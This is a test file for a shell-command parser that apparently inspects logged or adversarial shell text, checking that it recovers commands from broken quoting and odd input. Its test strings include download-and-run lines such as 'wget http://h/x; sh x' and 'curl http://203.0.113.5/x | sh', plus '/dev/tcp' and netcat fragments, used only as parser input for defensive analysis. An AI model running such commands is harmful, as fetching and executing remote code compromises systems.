"""Logs lose quotes and brackets, and an adversary leaves them out: neighbours must not be swallowed."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.shell.hosts import named
from pipeline.shell.script import read, read_strictly


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('echo "foo; wget http://h/x; sh x', "wget sh"),
        ("echo 'foo; wget http://h/x; sh x", "wget sh"),
        ("echo don't; wget http://h/x", "wget"),
        ("(a; wget h", "a wget"),
        ("a); wget h", "a wget"),
        ("if true; then wget x; sh y", "true wget sh"),
        ("while true; do wget x", "wget"),
        ("for i in 1 2; do wget $i", "wget"),
        ("done; wget x", "wget"),
        ("wget x; fi", "wget"),
        ("wget h &&", "wget"),
        ("wget h | ", "wget"),
        ("a;; wget h", "a wget"),
        ("; wget h", "wget"),
        ("wget ) h; sh x", "wget sh"),
        ("echo $(wget h", "wget"),
        ("echo `wget h; sh x", "wget sh"),
        ("cat <<E | sh\nwget h", "wget"),
        ("a@b wget; sh x", "sh"),
        ("${ wget; sh x", "sh"),
    ],
)
def test_neighbours_of_what_is_broken_are_found(command: str, expected: str) -> None:
    found = [call.name for call in read_strictly(command).calls]
    assert [name for name in found if name in expected.split()] == expected.split()


def test_errors_are_said() -> None:
    assert read_strictly("echo 'a").errors
    assert not read_strictly("echo 'a'").errors


PIECES = st.sampled_from(
    [
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "[[",
        "]]",
        "((",
        "))",
        "$(",
        "${",
        "$((",
        "`",
        "",
        "'",
        '"',
        "\\",
        "|",
        "||",
        "&",
        "&&",
        ";",
        ";;",
        "<",
        ">",
        "<<",
        "<<<",
        "<>",
        ">&",
        "<(",
        "$",
        "#",
        "!",
        "*",
        "?",
        "~",
        "=",
        "+=",
        "\n",
        "\t",
        "\x00",
        "\x1b",
        "\u202e",
        "�",
        "é",
        "if",
        "then",
        "else",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        "while",
        "until",
        "function",
        "select",
        "coproc",
        "time",
        "a",
        "b=1",
        "$x",
        "-c",
        "sh",
        "bash",
        "eval",
        "base64",
        "-d",
        "echo",
        "xargs",
        "find",
        "-exec",
        "sudo",
        "1",
        "2>",
        "E",
        "EOF",
        "{a,b}",
        "{1..9}",
        "10.0.0.1",
        "/dev/tcp/h/1",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=24), st.sampled_from(["", " "]))
def test_never_raises_on_pieces_of_shell(pieces: list[str], between: str) -> None:
    read_strictly(between.join(pieces))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_never_raises_on_any_text(text: str) -> None:
    read_strictly(text)


@settings(max_examples=60, deadline=None)
@given(st.lists(PIECES, max_size=12))
def test_same_text_same_answer(pieces: list[str]) -> None:
    text = " ".join(pieces)
    assert read(text) == read(text)


def test_letters_of_every_plane_are_letters() -> None:
    """The parser's scanner reads outside of its tables for these, unless they are kept from it."""
    for code in (*range(0x100, 0x110000, 0x1777), 0x10FFFF):
        for form in ("[[ -{}{} x ]]; a", "${}{}; a", "a <<E\n${}{}\nE", "{}{} b; a", "a {}{}"):
            command = form.replace("{}", chr(code))
            assert "a" in [call.name for call in read_strictly(command).calls], ascii(command)
    assert read_strictly("grüß 'dé' 😀").calls[0].argv == ("grüß", "dé", "😀")


def test_a_fault_of_ours_costs_one_command(monkeypatch: pytest.MonkeyPatch) -> None:
    def fault(*_: object) -> None:
        raise RuntimeError("fault")

    monkeypatch.setattr("pipeline.shell.running.outputs.printed", fault)
    script = read("ls; id")
    assert script.truncated
    assert [call.name for call in script.calls] == ["ls"]


@pytest.mark.parametrize(
    "form",
    ["nc h {}", "nmap 10.0.0.0/{}", "ssh -p {} h", "mysql -P {} -h h", "echo a | xargs -n {} b", "set -- a; echo ${}",
     "set -- a; shift {}", "set -- a; echo ${{}}", "a {}>&1", "seq {}", "a >&{}", "echo {1..{}}", "curl http://h:{}/"],
)  # fmt: skip
@pytest.mark.parametrize("number", ["²", "9" * 5000, "0000019" + "9" * 5000])
def test_a_number_that_is_none_breaks_nothing(form: str, number: str) -> None:
    """``"²".isdigit()`` holds, and ``int`` refuses it, and what has more than 4300 figures."""
    script = read_strictly("curl http://203.0.113.5/x | sh; " + form.replace("{}", number) + "; id")
    assert {"curl", "sh", "id"} <= {call.name for call in script.calls}
    for call in script.calls:
        named(call)
